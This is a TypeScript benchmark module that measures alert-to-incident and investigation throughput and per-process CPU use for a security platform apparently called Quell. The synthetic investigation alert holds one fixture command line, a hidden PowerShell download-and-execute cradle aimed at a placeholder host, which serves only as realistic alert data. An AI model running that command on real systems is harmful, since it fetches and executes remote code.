import { execFileSync } from 'node:child_process';
import { makeBenchAlert, makeHotAlert } from './bench-alerts.js';
import { randomBytes } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { type Client, WorkflowNotFoundError } from '@temporalio/client';
import type { DataSource } from 'typeorm';
import { inParallel } from '../../src/infra/in-parallel.js';
import { alertWorkflowId } from '../../workflows/ids.js';

/**
 * The measurements `npm run bench` and `npm run bench:cluster` share: alert → incident and
 * investigation throughput through the HTTP API, each taking turns with a bare Temporal workflow loop
 * on the same server and workers, and the CPU each process used meanwhile.
 */

export const say = (s: string) => process.stderr.write(`${s}\n`);
/** Workflows (or alert requests) in flight. */
export const CONCURRENCY = Number(process.env.BENCH_CONCURRENCY ?? 64);
/** Quell and its bare baseline take turns this many times (throughput and investigations). */
export const ROUNDS = Number(process.env.BENCH_ROUNDS ?? 2);
/** Tells this run's alerts and workflows from earlier runs' on a reused server. */
export const run = randomBytes(3).toString('hex');

/** Where the load goes: Quell's HTTP API, its database (read to see work finish) and its Temporal server and task queue. */
export interface BenchTarget {
  baseUrl: string;
  taskQueue: string;
  db: DataSource;
  client: Client;
  /** Headers of a key that may ingest (JSON body). */
  headers: Record<string, string>;
}

/** The benchmark's alert mix (see `makeBenchAlert`); alerts with another `tag` share nothing with these. */
export function makeAlert(i: number, tag = ''): Record<string, unknown> {
  return makeBenchAlert(`${run}${tag}`, i);
}

/** One of this run's alerts from a detector misfiring on one host (see `makeHotAlert`). */
export function hotAlert(i: number): Record<string, unknown> {
  return makeHotAlert(run, i);
}

export const pct = (xs: number[], p: number) => {
  const s = [...xs].sort((a, b) => a - b);
  return s.length ? s[Math.min(s.length - 1, Math.floor((p / 100) * s.length))] : NaN;
};

export async function correlatedCount(db: DataSource, since: Date): Promise<number> {
  const [r] = await db.query('SELECT count(*)::int AS n FROM alerts WHERE correlated_at IS NOT NULL AND received_at >= $1', [since]);
  return r.n;
}

export async function waitCorrelated(db: DataSource, since: Date, expected: number, label: string): Promise<void> {
  let last = -1;
  for (;;) {
    const n = await correlatedCount(db, since);
    if (n !== last) process.stderr.write(`\r  ${label}: ${n}/${expected} correlated`);
    last = n;
    if (n >= expected) break;
    await new Promise((r) => setTimeout(r, 200));
  }
  process.stderr.write('\n');
}

/** Runs `workflows` bare workflows of `activities` no-op activities each, `CONCURRENCY` at a time; returns workflows per second. */
export async function bareRate(
  target: Pick<BenchTarget, 'client' | 'taskQueue'>,
  workflows: number,
  activities: number,
  idPrefix: string,
): Promise<number> {
  const started = Date.now();
  let done = 0;
  await inParallel(
    Array.from({ length: workflows }, (_, i) => i),
    CONCURRENCY,
    async (i) => {
      await target.client.workflow.execute('benchBaselineWorkflow', {
        workflowId: `bench-${run}-${idPrefix}-${i}`,
        taskQueue: target.taskQueue,
        args: [activities],
      });
      if (++done % 250 === 0) process.stderr.write(`\r  ${done}/${workflows}`);
    },
  );
  process.stderr.write('\n');
  return workflows / ((Date.now() - started) / 1000);
}

/** Lab devices `<prefix>-0 … <prefix>-<n>` for the enrichment and remediation the benchmark drives. */
export async function seedDevices(db: DataSource, prefix: string, n: number): Promise<void> {
  await db.query(
    `INSERT INTO lab_devices (device_id, hostname, os, device_group, risk, isolated, app_restricted, logged_on_users, ips, last_seen_at)
     SELECT 'dev-' || $1 || '-' || g, $1 || '-' || g, 'Windows 11', 'Default', 'low', false, false, '{}', '{}', now() FROM generate_series(0, $2) g
     ON CONFLICT DO NOTHING`,
    [prefix, n],
  );
}

export async function post(baseUrl: string, headers: Record<string, string>, body: unknown, format = 'native'): Promise<void> {
  const res = await fetch(`${baseUrl}/api/v1/alerts?format=${format}`, { method: 'POST', headers, body: JSON.stringify(body) });
  if (res.status !== 202) throw new Error(`POST /alerts answered ${res.status}: ${await res.text()}`);
  await res.arrayBuffer();
}

/**
 * Posts alerts `0 … n-1` (made by `alert`) one per request, or in arrays of `batch`; `CONCURRENCY`
 * single requests in flight, or `batchesInFlight` batches.
 */
async function postAll(
  target: BenchTarget,
  n: number,
  alert: (i: number) => unknown,
  batching: { batch: number; batchesInFlight: number },
): Promise<void> {
  if (batching.batch <= 1) {
    await inParallel(
      Array.from({ length: n }, (_, i) => i),
      CONCURRENCY,
      (i) => post(target.baseUrl, target.headers, alert(i)),
    );
    return;
  }
  const batches = Array.from({ length: Math.ceil(n / batching.batch) }, (_, b) =>
    Array.from({ length: Math.min(batching.batch, n - b * batching.batch) }, (_, j) => b * batching.batch + j),
  );
  await inParallel(batches, batching.batchesInFlight, (indices) => post(target.baseUrl, target.headers, indices.map(alert)));
}

/** The result of a workflow the worker's dispatcher starts after the commit: waits for it to exist first. */
export async function resultOf(client: Client, workflowId: string): Promise<unknown> {
  for (;;) {
    try {
      return await client.workflow.getHandle(workflowId).result();
    } catch (err) {
      if (!(err instanceof WorkflowNotFoundError)) throw err;
      await new Promise((r) => setTimeout(r, 50));
    }
  }
}

/** Per process (or group of processes), the share of one core it used: 100 = one core saturated. */
export type CpuShares = Record<string, number>;

export interface CpuSampler {
  start(): void;
  /** Ends an interval; the shares over every interval since the sampler was made. */
  stop(): CpuShares;
  /** The shares over every interval ended so far. */
  shares(): CpuShares;
  /** The whole machine's busy share of one core over the same intervals (this run's processes and everyone else's). */
  machine(): number;
}

/**
 * User + system time of a process and of its children it has reaped, from /proc, in clock ticks
 * (1/100 s), or 0 once it is gone. With the reaped children's time, a PostgreSQL backend that exits
 * between two readings still counts: the postmaster's total takes it over.
 */
function ticksOf(pid: number): number {
  try {
    const fields = readFileSync(`/proc/${pid}/stat`, 'utf8').split(') ')[1].split(' ');
    return Number(fields[11]) + Number(fields[12]) + Number(fields[13]) + Number(fields[14]);
  } catch {
    return 0;
  }
}

/** Busy ticks of the whole machine (all cores), or 0 where /proc/stat cannot be read. */
function machineTicks(): number {
  try {
    const v = readFileSync('/proc/stat', 'utf8').split('\n')[0].trim().split(/\s+/).slice(1).map(Number);
    return v.reduce((a, b) => a + b, 0) - v[3] - v[4];
  } catch {
    return 0;
  }
}

/**
 * CPU seconds used by this process and its descendants (the worker processes, PostgreSQL, the
 * Temporal server), grouped by process, between `start()` and `stop()`: which one saturates a core.
 * `labels` names processes by pid (each worker on its own, say); the others are grouped by kind.
 * Several start/stop intervals add up, so the turns of one side of a comparison are measured together.
 */
export function cpuSampler(labels: ReadonlyMap<number, string> = new Map()): CpuSampler {
  const read = () => {
    const out = execFileSync('ps', ['-eo', 'pid=,ppid=,args='], { encoding: 'utf8' });
    const rows = out
      .trim()
      .split('\n')
      .map((l) => /^\s*(\d+)\s+(\d+)\s+(.*)$/.exec(l))
      .filter((m): m is RegExpExecArray => m !== null)
      .map((m) => ({ pid: Number(m[1]), ppid: Number(m[2]), args: m[3] }));
    const mine = new Set([process.pid]);
    for (let grew = true; grew;) {
      grew = false;
      for (const r of rows) {
        if (mine.has(r.pid) || !mine.has(r.ppid)) continue;
        mine.add(r.pid);
        grew = true;
      }
    }
    const groups = new Map<string, number>();
    for (const r of rows) {
      if (!mine.has(r.pid)) continue;
      // ps rounds to whole seconds, which hides the many short-lived PostgreSQL backends: /proc has ticks.
      const seconds = ticksOf(r.pid) / 100;
      const name =
        labels.get(r.pid) ??
        (r.pid === process.pid
          ? 'bench + Quell API (node)'
          : r.args.includes('main.js')
            ? 'Quell worker (node)'
            : r.args.includes('postgres')
              ? 'PostgreSQL (all backends)'
              : r.args.includes('start-dev')
                ? 'Temporal dev server'
                : r.args.includes('temporal')
                  ? 'Temporal server'
                  : r.args.split(' ')[0]);
      groups.set(name, (groups.get(name) ?? 0) + seconds);
    }
    return groups;
  };
  const used = new Map<string, number>();
  let before = new Map<string, number>();
  let machineBefore = 0;
  let machineUsed = 0;
  let started = 0;
  let wall = 0;
  const shares = (): CpuShares =>
    Object.fromEntries([...used].map(([name, secs]) => [name, Math.round((100 * secs) / wall)] as const).sort((a, b) => b[1] - a[1]));
  return {
    start() {
      before = read();
      machineBefore = machineTicks();
      started = Date.now();
    },
    stop() {
      const after = read();
      machineUsed += (machineTicks() - machineBefore) / 100;
      wall += (Date.now() - started) / 1000;
      for (const [name, secs] of after) used.set(name, (used.get(name) ?? 0) + secs - (before.get(name) ?? 0));
      return shares();
    },
    shares,
    machine: () => Math.round((100 * machineUsed) / wall),
  };
}

/** CPU samplers for the two sides of a comparison. */
export interface TurnSamplers {
  quell: CpuSampler;
  bare: CpuSampler;
}

/**
 * Quell and its bare baseline take turns in ROUNDS rounds of `per` each, so that both see the same
 * server conditions (a slower stretch of the dev server or the database falls on both, not on
 * whichever ran second). `bare` returns its rate; the result is both rates per second.
 */
export async function inTurns(
  per: number,
  quell: (round: number) => Promise<void>,
  bare: (round: number) => Promise<number>,
  cpu?: TurnSamplers,
) {
  let quellSeconds = 0;
  let bareSeconds = 0;
  for (let r = 0; r < ROUNDS; r++) {
    const started = Date.now();
    cpu?.quell.start();
    await quell(r);
    cpu?.quell.stop();
    quellSeconds += (Date.now() - started) / 1000;
    cpu?.bare.start();
    bareSeconds += per / (await bare(r));
    cpu?.bare.stop();
  }
  return { quellPerSec: (ROUNDS * per) / quellSeconds, barePerSec: (ROUNDS * per) / bareSeconds };
}

export interface ThroughputOptions {
  alerts: number;
  /** Alerts per request (1: single alerts, CONCURRENCY requests in flight). */
  batch?: number;
  batchesInFlight?: number;
  /** Keeps these alerts apart from other measurements' on the same Quell (see `makeAlert`). */
  tag?: string;
  label?: string;
  cpu?: TurnSamplers;
}

/** Quell alert → incident through the HTTP API vs a bare workflow running `activities` no-op activities. */
export async function throughput(target: BenchTarget, activities: number, opts: ThroughputOptions) {
  const per = Math.ceil(opts.alerts / ROUNDS);
  const batch = opts.batch ?? 1;
  const batchesInFlight = opts.batchesInFlight ?? 4;
  const sending = batch > 1 ? `in batches of ${batch}, ${batchesInFlight} in flight` : `${CONCURRENCY} in flight`;
  say(
    `${opts.label ?? ''}throughput: ${ROUNDS} rounds of ${per} alerts through the HTTP API (${sending}), then ${per} bare workflows with ${activities} no-op activit${activities === 1 ? 'y' : 'ies'} each, ${CONCURRENCY} in flight`,
  );
  const rates = await inTurns(
    per,
    async (r) => {
      const since = new Date();
      await postAll(target, per, (i) => makeAlert(r * per + i, opts.tag), { batch, batchesInFlight });
      await waitCorrelated(target.db, since, per, `round ${r + 1}: Quell`);
    },
    (r) => bareRate(target, per, activities, `base${opts.tag ?? ''}-${r}`),
    opts.cpu,
  );
  return { base: { activities, workflowsPerSec: rates.barePerSec }, quell: { alertsPerSec: rates.quellPerSec } };
}

/** Activities a finished workflow ran, from its history: regular ones and local ones (recorded as markers). */
export async function activityCount(client: Client, workflowId: string): Promise<{ regular: number; local: number; total: number }> {
  const events = (await client.workflow.getHandle(workflowId).fetchHistory()).events ?? [];
  const regular = events.filter((e) => e.activityTaskScheduledEventAttributes).length;
  const local = events.filter((e) => e.markerRecordedEventAttributes?.markerName === 'core_local_activity').length;
  return { regular, local, total: regular + local };
}

export interface InvestigationOptions extends Omit<ThroughputOptions, 'alerts'> {
  investigations: number;
  /** No-op activities per bare workflow; by default as many as an alert and its investigation run. */
  baselineActivities?: number;
}

/** Investigations through the six-step bench playbook (`scripts/bench-playbooks`), each alert its own incident, vs a bare workflow loop. */
export async function investigations(target: BenchTarget, opts: InvestigationOptions) {
  const n = opts.investigations;
  const tag = opts.tag ?? '';
  const { db, client } = target;
  say(`${opts.label ?? ''}investigations: ${n} alerts, each its own incident, through a six-step playbook`);
  await seedDevices(db, `bench-inv${tag}`, n + 100);
  const alert = (i: number) => ({
    externalId: `bench-inv-${run}${tag}-${i}`,
    source: 'endpoint',
    type: 'bench_typical',
    title: `Bench investigation ${i}`,
    severity: 'medium',
    entities: [
      { type: 'device', hostname: `bench-inv${tag}-${i}` },
      { type: 'user', upn: `bench-inv-${run}${tag}-${i}@bench.example` },
      { type: 'process', commandLine: 'powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'http://x\')"' },
    ],
  });
  // One warm-up investigation also tells how many activities the path runs (alert + investigation workflow).
  const warmSince = new Date();
  await post(target.baseUrl, target.headers, alert(-1));
  const [warm] = await waitInvestigations(db, 1, 'warm-up', warmSince);
  const [warmAlert] = await db.query(`SELECT id FROM alerts WHERE source = 'endpoint' AND external_id = $1`, [alert(-1).externalId]);
  const [inv, al] = [await activityCount(client, warm.workflowId), await activityCount(client, alertWorkflowId(warmAlert.id))];
  const perAlert = inv.total + al.total;
  const local = inv.local + al.local;
  const baseActivities = opts.baselineActivities ?? perAlert;

  const per = Math.ceil(n / ROUNDS);
  say(
    `  ${ROUNDS} rounds of ${per} investigations, then ${per} bare workflows of ${baseActivities} no-op activit${baseActivities === 1 ? 'y' : 'ies'} each (Quell runs ${perAlert} activities per alert, ${local} of them local)`,
  );
  const durations: number[] = [];
  const batch = opts.batch ?? 1;
  const { quellPerSec: perSec, barePerSec: baselinePerSec } = await inTurns(
    per,
    async (r) => {
      const since = new Date();
      await postAll(target, per, (i) => alert(r * per + i), { batch, batchesInFlight: opts.batchesInFlight ?? 4 });
      durations.push(...(await waitInvestigations(db, per, `round ${r + 1}: investigations`, since)).map((row) => row.ms));
    },
    (r) => bareRate(target, per, baseActivities, `inv-base${tag}-${r}`),
    opts.cpu,
  );
  return {
    investigations: ROUNDS * per,
    activitiesPerAlert: perAlert,
    localActivitiesPerAlert: local,
    baselineActivities: baseActivities,
    perSec,
    baselinePerSec,
    ratio: perSec / baselinePerSec,
    durationMs: { p50: pct(durations, 50), p95: pct(durations, 95), p99: pct(durations, 99) },
  };
}

export async function waitInvestigations(
  db: DataSource,
  expected: number,
  label: string,
  since: Date,
): Promise<{ workflowId: string; ms: number }[]> {
  let last = -1;
  for (;;) {
    const rows: { workflowId: string; ms: number }[] = await db.query(
      `SELECT workflow_id AS "workflowId", extract(epoch FROM ended_at - started_at) * 1000 AS ms FROM investigations
       WHERE started_at >= $1 AND ended_at IS NOT NULL ORDER BY started_at`,
      [since],
    );
    if (rows.length !== last) process.stderr.write(`\r  ${label}: ${rows.length}/${expected} finished`);
    last = rows.length;
    if (rows.length >= expected) {
      process.stderr.write('\n');
      return rows.map((r) => ({ ...r, ms: Number(r.ms) }));
    }
    await new Promise((r) => setTimeout(r, 250));
  }
}
